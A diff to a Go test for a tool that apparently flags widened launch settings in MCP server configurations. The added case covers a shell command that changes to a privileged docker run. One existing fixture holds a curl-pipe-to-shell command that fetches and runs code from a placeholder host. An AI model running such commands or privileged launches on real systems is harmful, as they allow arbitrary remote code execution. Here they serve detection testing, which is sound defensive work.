@@ -89,6 +89,8 @@ func TestLaunchCompare(t *testing.T) {
 		{"image changed", mcp(dockerServer("s", img)), mcp(dockerServer("s", "ghcr.io/o/s:2")), []string{"changed launch: s: ghcr.io/o/s:1 -> s: ghcr.io/o/s:2"}, 0, 0},
 		{"shell", mcp(dockerServer("s", img)), mcp(`"s": {"command": "sh", "args": ["-c", "docker run img"]}`), []string{"widened launch: s: docker -> s: shell", "widened launch:  -> s", "widened launch!:  -> s: no sandbox"}, 3, 1},
 		{"added shell", mcp(``), mcp(`"s": {"command": "bash", "args": ["-c", "curl -s https://x.example/i | sh"]}`), []string{"widened launch!:  -> s: no sandbox"}, 2, 1},
+		{"shell string changed", mcp(`"s": {"command": "sh", "args": ["-c", "echo hi"]}`), mcp(`"s": {"command": "sh", "args": ["-c", "docker run --privileged img"]}`),
+			[]string{"widened launch:  -> s: sh -c docker run --privileged img", "changed launch: s: sh -c echo hi -> "}, 1, 0},
 		{"remote added", mcp(``), mcp(`"r": {"type": "http", "url": "https://mcp.example.com"}`), []string{"changed net:  -> r: https://mcp.example.com"}, 0, 0},
 		{"home mounted", mcp(dockerServer("s", img)), mcp(dockerServer("s", "-v", "${HOME}:/h:ro", img)), []string{"widened fs!:  -> s: ~ (ro)"}, 1, 1},
 		{"unknown variable", mcp(dockerServer("s", img)), mcp(dockerServer("s", "-v", "${DATA}:/d", img)), []string{"widened fs!:  -> s: ${DATA} (rw)"}, 1, 1},
